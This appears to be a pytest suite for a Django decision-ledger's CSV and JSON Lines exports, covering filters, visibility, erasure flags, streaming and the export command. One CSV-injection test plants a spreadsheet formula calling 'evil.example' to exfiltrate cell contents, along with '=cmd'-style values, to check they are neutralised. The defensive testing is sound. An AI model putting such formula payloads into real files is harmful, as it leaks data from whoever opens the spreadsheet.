"""CSV and JSON Lines exports, the export.made record, streaming, and the export command."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import datetime

import pytest
import rfc8785
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from governance import ledger
from governance.actors import Actor
from governance.decisions import DecisionFilter
from governance.exports import tabular
from governance.exports.selection import ExportError, select
from governance.exports.service import Export, stream_and_record
from governance.ledger import chain_hash
from governance.models import Checkpoint, DecisionRecord
from tests.ledger_samples import JANE, JOHN, erase, make_sample_ledger, run_export

pytestmark = pytest.mark.django_db

DECIDED = DecisionFilter(event="agent.decided")


@pytest.fixture
def sample():
    return make_sample_ledger()


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def jsonl_items(data: bytes) -> list[dict]:
    return [json.loads(line) for line in data.decode().splitlines()]


def expected_seqs(queryset) -> list[int]:
    return sorted(queryset.values_list("seq", flat=True))


# --- CSV --------------------------------------------------------------------------------------


def test_csv_header_is_the_documented_columns(sample):
    data, _ = run_export("csv", exporter=sample.compliance, decision_filter=DECIDED)
    assert data.decode().splitlines()[0].split(",") == list(tabular.CSV_HEADER)
    for column in tabular.CSV_HEADER:
        assert column in tabular.__doc__


def test_csv_holds_the_filtered_records_in_seq_order(sample):
    data, _ = run_export("csv", exporter=sample.compliance, decision_filter=DECIDED)
    rows = csv_rows(data)
    assert [int(row["seq"]) for row in rows] == [d.seq for d in sample.decisions]
    assert {row["event"] for row in rows} == {"agent.decided"}


def test_csv_rows_carry_the_canonical_bytes_that_hash_to_the_record(sample):
    data, _ = run_export("csv", exporter=sample.compliance)
    for row in csv_rows(data):
        stored = DecisionRecord.objects.get(seq=int(row["seq"]))
        assert row["canonical"] == stored.canonical
        assert chain_hash(row["prev_hash"], row["canonical"].encode()) == row["hash"]
        recorded = datetime.fromisoformat(json.loads(stored.canonical)["recorded_at"])
        assert datetime.fromisoformat(row["recorded_at"]) == recorded


def test_csv_of_a_builder_holds_only_their_teams_records_and_their_own_actions(sample):
    data, _ = run_export("csv", exporter=sample.builder)
    visible = DecisionRecord.objects.filter(team_id=str(sample.risk.pk)) | (
        DecisionRecord.objects.filter(actor_type="person", actor_id=str(sample.builder.pk))
    )
    seqs = [int(row["seq"]) for row in csv_rows(data)]
    assert seqs == expected_seqs(visible.filter(seq__lte=seqs[-1]))
    assert str(sample.support.pk) not in {row["team_id"] for row in csv_rows(data)}


def test_csv_applies_every_filter_with_the_users_visibility(sample):
    decision_filter = DecisionFilter(event="agent.decided", decision="approve", confidence_min=0.65)
    data, _ = run_export("csv", exporter=sample.builder, decision_filter=decision_filter)
    expected = [
        d.seq
        for d in sample.decisions
        if d.team_id == str(sample.risk.pk) and d.decision == "approve" and d.confidence >= 0.65
    ]
    assert expected
    assert [int(row["seq"]) for row in csv_rows(data)] == expected


def test_csv_and_jsonl_show_personal_parts_only_as_ciphertext(sample):
    for fmt in ("csv", "jsonl"):
        data, _ = run_export(fmt, exporter=sample.compliance)
        text = data.decode()
        for value in (*JANE.values(), *JOHN.values()):
            assert value not in text, (fmt, value)
        ciphertext = json.loads(sample.decisions[0].canonical)["personal"]["ciphertext"]
        assert ciphertext in text


def test_csv_flags_an_erased_subject_with_when_by_whom_and_why(sample):
    erase("cust-jane", by="carol", reason="GDPR request 2026-114")
    data, _ = run_export("csv", exporter=sample.compliance, decision_filter=DECIDED)
    rows = {int(row["seq"]): row for row in csv_rows(data)}
    jane = rows[sample.decisions[0].seq]
    assert jane["subject_id"] == "cust-jane"
    assert jane["personal_erased_at"].endswith("+00")
    assert jane["personal_erased_by"] == "carol"
    assert jane["personal_erasure_reason"] == "GDPR request 2026-114"
    assert json.loads(jane["canonical"])["personal"]["ciphertext"]  # still there
    john = rows[sample.decisions[3].seq]
    assert (john["subject_id"], john["personal_erased_at"]) == ("cust-john", "")


@pytest.mark.postgres
@pytest.mark.parametrize("erased", [True, False])
def test_csv_by_copy_gives_the_same_bytes_as_csv_by_rows(sample, erased):
    if erased:
        erase("cust-jane")
    odd = Actor("agent", "", 'name, with "quotes"\nand a line break')
    for confidence in (1.0, 0.0, 1e-05, 0.123456789012):
        ledger.append("agent.decided", actor=odd, body={"confidence": confidence, "decision": ""})
    selection = select(DecisionFilter(), exporter=sample.compliance)
    by_copy = b"".join(tabular._csv_by_copy(selection, tabular.Tally(), None))
    by_rows = b"".join(tabular._csv_by_rows(selection, tabular.Tally(), None))
    assert by_copy == by_rows


@pytest.mark.postgres
def test_csv_on_postgresql_is_written_by_copy(sample):
    selection = select(DECIDED, exporter=sample.compliance)
    sql, _ = tabular.copy_query(selection, 0, selection.upper_seq)
    assert '"governance_decisionrecord"."canonical"' in sql
    data, _ = run_export("csv", exporter=sample.compliance, decision_filter=DECIDED)
    assert len(csv_rows(data)) == len(sample.decisions)


# --- JSON Lines -------------------------------------------------------------------------------


def test_jsonl_lines_embed_the_stored_canonical_record_verbatim(sample):
    data, _ = run_export("jsonl", exporter=sample.compliance, decision_filter=DECIDED)
    lines = data.decode().splitlines()
    assert len(lines) == len(sample.decisions)
    for line, record in zip(lines, sample.decisions, strict=True):
        assert f'"record":{record.canonical},' in line
        item = json.loads(line)
        assert list(item) == ["seq", "hash", "prev_hash", "record", "erasure"]
        assert (item["seq"], item["hash"], item["prev_hash"]) == (
            record.seq,
            record.hash,
            record.prev_hash,
        )
        assert rfc8785.dumps(item["record"]) == record.canonical.encode()


def test_jsonl_holds_what_the_filter_and_the_users_visibility_allow(sample):
    data, _ = run_export("jsonl", exporter=sample.outsider, decision_filter=DECIDED)
    items = jsonl_items(data)
    assert [item["seq"] for item in items] == [
        d.seq for d in sample.decisions if d.team_id == str(sample.support.pk)
    ]


def test_jsonl_flags_an_erased_subject(sample):
    erase("cust-john", by="dpo", reason="request 7")
    data, _ = run_export("jsonl", exporter=sample.compliance, decision_filter=DECIDED)
    items = {item["seq"]: item for item in jsonl_items(data)}
    erasure = items[sample.decisions[3].seq]["erasure"]
    assert erasure["subject"] == "cust-john"
    assert (erasure["erased_by"], erasure["reason"]) == ("dpo", "request 7")
    assert erasure["erased_at"].endswith("Z")
    assert items[sample.decisions[0].seq]["erasure"] is None


def test_an_export_never_includes_records_appended_after_it_began(sample):
    selection = select(DecisionFilter(), exporter=sample.compliance)
    later = DecisionRecord.objects.order_by("-seq").first().seq + 1
    ledger.append("agent.decided", actor=None, body={"late": True})
    data = b"".join(Export(selection, "jsonl", via="command").chunks())
    assert later not in [item["seq"] for item in jsonl_items(data)]


# --- export.made and checkpoints --------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "bundle"])
def test_every_export_is_recorded_as_export_made_with_its_counts(sample, fmt):
    data, result = run_export(fmt, exporter=sample.compliance, decision_filter=DECIDED)
    record = DecisionRecord.objects.order_by("-seq").first()
    assert record.seq == result.record.seq
    assert record.event == "export.made"
    assert (record.actor_type, record.actor_id) == ("person", str(sample.compliance.pk))
    body = json.loads(record.canonical)["body"]
    assert body["format"] == fmt
    assert body["filters"] == {"event": "agent.decided"}
    assert body["records"] == len(sample.decisions)
    assert body["range"] == {
        "first_seq": sample.decisions[0].seq,
        "last_seq": sample.decisions[-1].seq,
    }
    assert body["sha256"] == hashlib.sha256(data).hexdigest()
    assert body["bytes"] == len(data)
    assert body["complete"] is True


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "bundle"])
def test_a_checkpoint_is_signed_after_every_export(sample, fmt):
    _, result = run_export(fmt, exporter=sample.compliance)
    latest = Checkpoint.objects.order_by("-seq", "-signed_at").first()
    assert latest.reason == "export"
    assert latest.seq == result.record.seq
    assert latest.pk == result.checkpoint.pk


def test_a_system_export_names_the_command_as_its_actor(sample):
    _, result = run_export("csv")
    assert (result.record.actor_type, result.record.actor_name) == (
        "system",
        "export_decisions command",
    )


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "bundle"])
def test_an_abandoned_download_is_recorded_as_incomplete(sample, monkeypatch, fmt):
    monkeypatch.setattr(tabular, "CHUNK_ROWS", 2)
    monkeypatch.setattr(tabular, "FLUSH_BYTES", 100)  # PostgreSQL: stop in the middle of a COPY
    selection = select(DecisionFilter(), exporter=sample.compliance)
    stream = stream_and_record(Export(selection, fmt, via="page"))
    first = next(stream) + next(stream)
    stream.close()  # what the server does when the client goes away
    record = DecisionRecord.objects.order_by("-seq").first()
    body = json.loads(record.canonical)["body"]
    assert record.event == "export.made"
    assert body["complete"] is False
    assert body["bytes"] == len(first)


# --- streaming --------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "bundle"])
def test_exports_are_generators_of_bounded_chunks(sample, monkeypatch, fmt):
    monkeypatch.setattr(tabular, "CHUNK_ROWS", 2)
    monkeypatch.setattr(tabular, "COPY_WINDOW", 4)  # PostgreSQL: one COPY per 4 seqs
    monkeypatch.setattr("governance.exports.bundle.CHUNK_ROWS", 2)
    export = Export(select(DecisionFilter(), exporter=sample.compliance), fmt, via="command")
    chunks = list(export.chunks())
    assert len(chunks) > 3
    assert max(len(chunk) for chunk in chunks) < 64 * 1024


def test_records_are_read_a_chunk_at_a_time_as_the_stream_is_consumed(sample, monkeypatch):
    monkeypatch.setattr(tabular, "CHUNK_ROWS", 2)
    export = Export(select(DecisionFilter(), exporter=sample.compliance), "jsonl", via="command")
    stream = export.chunks()
    with CaptureQueriesContext(connection) as queries:
        next(stream)
    record_reads = [q for q in queries if "governance_decisionrecord" in q["sql"]]
    assert len(record_reads) == 1
    assert export.tally.records == 2


def test_the_command_writes_each_chunk_before_it_reads_the_next(sample, tmp_path, monkeypatch):
    out = tmp_path / "big.jsonl"
    part = tmp_path / "big.jsonl.part"
    sizes_on_disk = []

    def chunks(self):
        for n in range(4):
            if n:
                sizes_on_disk.append(part.stat().st_size)
            chunk = b"x" * 100_000 + b"\n"  # larger than the file buffer: written through
            self.bytes += len(chunk)
            yield chunk

    monkeypatch.setattr(Export, "chunks", chunks)
    call_command("export_decisions", "--format", "jsonl", "--out", str(out), stdout=io.StringIO())
    assert sizes_on_disk == [100_001, 200_002, 300_003]
    assert out.stat().st_size == 400_004


# --- the command ------------------------------------------------------------------------------


def test_the_command_exports_with_filters_and_reports_the_record(sample, tmp_path):
    out = tmp_path / "decided.csv"
    stdout = io.StringIO()
    call_command(
        "export_decisions",
        "--format=csv",
        f"--out={out}",
        "--event=agent.decided",
        f"--team={sample.risk.pk}",
        stdout=stdout,
    )
    rows = csv_rows(out.read_bytes())
    assert [int(row["seq"]) for row in rows] == [
        d.seq for d in sample.decisions if d.team_id == str(sample.risk.pk)
    ]
    record = DecisionRecord.objects.order_by("-seq").first()
    assert f"ledger record #{record.seq}" in stdout.getvalue()
    assert json.loads(record.canonical)["body"]["via"] == "command"
    assert not (tmp_path / "decided.csv.part").exists()


def test_the_command_exports_as_a_user_with_their_visibility(sample, tmp_path):
    out = tmp_path / "mine.jsonl"
    call_command(
        "export_decisions", "--format=jsonl", f"--out={out}", "--as=olga", stdout=io.StringIO()
    )
    teams = {json.loads(line)["record"]["refs"].get("team", {}).get("id") for line in out.open()}
    assert teams <= {str(sample.support.pk), None}
    record = DecisionRecord.objects.order_by("-seq").first()
    assert record.actor_name == "olga"


def test_the_command_writes_csv_to_standard_output(sample, capsysbinary):
    stderr = io.StringIO()
    call_command("export_decisions", "--format=csv", "--out=-", stderr=stderr)
    assert capsysbinary.readouterr().out.startswith(b"seq,recorded_at,event,")
    assert "Exported" in stderr.getvalue()


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--since=yesterday"], "--since: Enter a valid date/time"),
        (["--until=2026-13-01"], "--until: Enter a valid date/time"),
        (["--confidence-min=2"], "--confidence-min: Ensure this value is less than or equal"),
        (["--confidence-max=high"], "--confidence-max: Enter a number"),
        (["--confidence-min=0.9", "--confidence-max=0.1"], "--confidence-max: must not be lower"),
        (["--since=2026-02-01", "--until=2026-01-01"], "--until: must be later"),
        (["--event=" + "e" * 65], "--event: Ensure this value has at most 64"),
        (["--as=nobody"], "--as: no active user called 'nobody'"),
        (["--include-personal"], "--include-personal: only bundles"),
    ],
)
def test_bad_command_options_name_the_option(sample, tmp_path, arguments, message):
    with pytest.raises(CommandError, match=message.replace("(", r"\(")):
        call_command("export_decisions", "--format=csv", f"--out={tmp_path / 'x.csv'}", *arguments)
    assert not (tmp_path / "x.csv").exists()


def test_the_command_refuses_an_unknown_format(tmp_path):
    with pytest.raises(CommandError, match="--format"):
        call_command("export_decisions", "--format=xml", f"--out={tmp_path / 'x'}")


def test_the_command_refuses_personal_data_for_a_user_export(sample, tmp_path):
    with pytest.raises(CommandError, match="--include-personal: applies to system exports"):
        call_command(
            "export_decisions",
            "--format=bundle",
            f"--out={tmp_path / 'x.zip'}",
            "--as=bob",
            "--include-personal",
        )


@pytest.mark.parametrize(
    ("out", "message"),
    [
        ("missing-dir/x.csv", "--out: the directory .* does not exist"),
        (".", "--out: .* is a directory"),
        ("exists.csv", "--out: .* already exists"),
    ],
)
def test_the_command_checks_the_output_path(sample, tmp_path, out, message):
    (tmp_path / "exists.csv").write_text("keep me")
    with pytest.raises(CommandError, match=message):
        call_command("export_decisions", "--format=csv", f"--out={tmp_path / out}")
    assert (tmp_path / "exists.csv").read_text() == "keep me"


def test_the_command_replaces_an_existing_file_with_force(sample, tmp_path):
    out = tmp_path / "exists.csv"
    out.write_text("old")
    call_command(
        "export_decisions", "--format=csv", f"--out={out}", "--force", stdout=io.StringIO()
    )
    assert out.read_text().startswith("seq,")


def test_a_bundle_cannot_go_to_standard_output(tmp_path):
    with pytest.raises(CommandError, match="--out: a bundle is a zip file"):
        call_command("export_decisions", "--format=bundle", "--out=-")


def test_only_compliance_and_admins_may_include_personal_data(sample):
    with pytest.raises(ExportError, match="may not see personal data"):
        select(DecisionFilter(), exporter=sample.builder, include_personal=True)
    assert select(DecisionFilter(), exporter=sample.compliance).may_see_personal
    assert not select(DecisionFilter(), exporter=sample.builder).may_see_personal
    assert not select(DecisionFilter()).may_see_personal
    assert select(DecisionFilter(), include_personal=True).may_see_personal


def test_an_inactive_user_may_not_export(sample):
    sample.builder.is_active = False
    with pytest.raises(ExportError, match="only an active user"):
        select(DecisionFilter(), exporter=sample.builder)


@pytest.mark.parametrize(
    ("values", "line"),
    [
        ((1, None, "", "plain"), '1,,"",plain\n'),
        (("a,b", 'say "hi"', "two\nlines", "cr\r"), '"a,b","say ""hi""","two\nlines","cr\r"\n'),
        ((1.0, 0.0, 0.25, 1e-05), "1,0,0.25,1e-05\n"),
    ],
)
def test_csv_lines_follow_copys_quoting_and_number_forms(values, line):
    assert tabular.csv_line(values) == line


def test_csv_timestamps_are_written_as_postgresql_writes_them():
    from datetime import UTC

    assert tabular.pg_timestamp(datetime(2026, 3, 1, 9, 30, tzinfo=UTC)) == "2026-03-01 09:30:00+00"
    moment = datetime(2026, 3, 1, 9, 30, 0, 250000, tzinfo=UTC)
    assert tabular.pg_timestamp(moment) == "2026-03-01 09:30:00.25+00"


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(sample):
    """CSV injection: a name or decision someone typed must not run as a formula in the
    spreadsheet a compliance officer opens; the canonical column keeps the recorded value."""
    planted = ledger.append(
        "agent.decided",
        actor=Actor("agent", "66", '=HYPERLINK("https://evil.example/?"&A1,"open")'),
        body={"decision": "+approve", "confidence": 0.5},
        team=("1", "@team"),
        workflow=("2", "-flow"),
    )
    data, _ = run_export("csv", exporter=sample.compliance)
    row = next(r for r in csv_rows(data) if int(r["seq"]) == planted.seq)
    assert row["actor_name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
    assert (row["decision"], row["team_name"], row["workflow_name"]) == (
        "'+approve",
        "'@team",
        "'-flow",
    )
    assert row["canonical"] == planted.canonical
    assert json.loads(row["canonical"])["decision"] == "+approve"
    assert row["agent_name"] == ""  # untouched when there is nothing to neutralise


def test_the_row_by_row_csv_writes_what_copy_writes(sample):
    """The path other databases take (keyset chunks, csv_line) and COPY give the same bytes,
    formula-safe cells included."""
    if connection.vendor != "postgresql":
        pytest.skip("COPY is PostgreSQL's")
    ledger.append(
        "agent.decided",
        actor=Actor("person", "7", "=cmd"),
        body={"decision": "-1", "confidence": 0.25},
    )
    erase("cust-jane", reason="=request by email")
    selection = select(DecisionFilter(), exporter=sample.compliance)
    by_copy = b"".join(tabular._csv_by_copy(selection, tabular.Tally(), None))
    by_rows = b"".join(tabular._csv_by_rows(selection, tabular.Tally(), None))
    assert by_rows == by_copy
    assert b"'=cmd" in by_copy
    assert b"'=request by email" in by_copy
